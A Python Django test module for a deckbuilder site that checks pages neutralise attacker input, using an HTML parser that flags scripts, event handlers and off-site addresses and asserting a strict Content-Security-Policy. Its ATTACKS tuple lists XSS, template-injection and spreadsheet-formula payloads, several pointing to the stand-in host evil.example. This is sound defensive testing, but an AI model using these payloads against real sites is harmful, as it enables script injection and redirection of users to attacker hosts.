"""What attackers write where they can, and what a page must not make of it."""

import re
from html.parser import HTMLParser
from urllib.parse import urlencode

from django.test import Client

from tests.deckbuilder.base import SiteTest

ATTACKS = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "` onclick=alert(1) `",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<object data=//evil.example>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "{{ 7*7 }}{% include 'x' %}${alert(1)}",
    "%s %(name)s {name} {0.__class__}",
    "=HYPERLINK('//evil.example')",
    "[x](javascript:alert(1)) ![x](//evil.example/x.png)",
    "[[<img src=x onerror=alert(1)>]]",
    "<x hx-get=//evil.example hx-trigger=load>",
)
ALLOWED_OUTSIDE = re.compile(r"(?:/|#|\?|\./|https?://(?:testserver|localhost)|mailto:|$)")


ADDRESSES = ("href", "src", "action", "formaction", "hx-get", "hx-post", "data", "xlink:href")


class Page(HTMLParser):
    """Whatever on a page could run, load or lead elsewhere."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        ours = (found.get("src") or "").startswith(("/static/", "/bundles/")) or found.get("type") == "application/json"
        if tag == "script" and not ours:
            self.wrong.append((tag, str(found)))
        if tag in ("iframe", "object", "embed", "base", "style", "math", "template"):
            self.wrong.append((tag, None))
        if tag == "meta" and "http-equiv" in found:
            self.wrong.append((tag, str(found)))
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.wrong.append((name, value))
            elsewhere = not ALLOWED_OUTSIDE.match(value or "") or (value or "").startswith("//")
            if elsewhere and name in ADDRESSES:
                self.wrong.append((name, value))

    handle_startendtag = handle_starttag


def wrong_on(html: str) -> list[tuple[str, str | None]]:
    page = Page()
    page.feed(html)
    page.close()
    return page.wrong


class AttacksTest(SiteTest):
    def harmless(self, browser: Client, address: str, **query: str) -> None:
        answer = browser.get(f"{address}?{urlencode(query)}" if query else address, follow=True)
        assert answer.status_code in (200, 404, 422), address
        policy = answer["Content-Security-Policy"]
        assert "script-src 'self'" in policy or "default-src 'self'" in policy
        assert "'unsafe-inline'" not in policy
        assert wrong_on(answer.content.decode()) == [], address
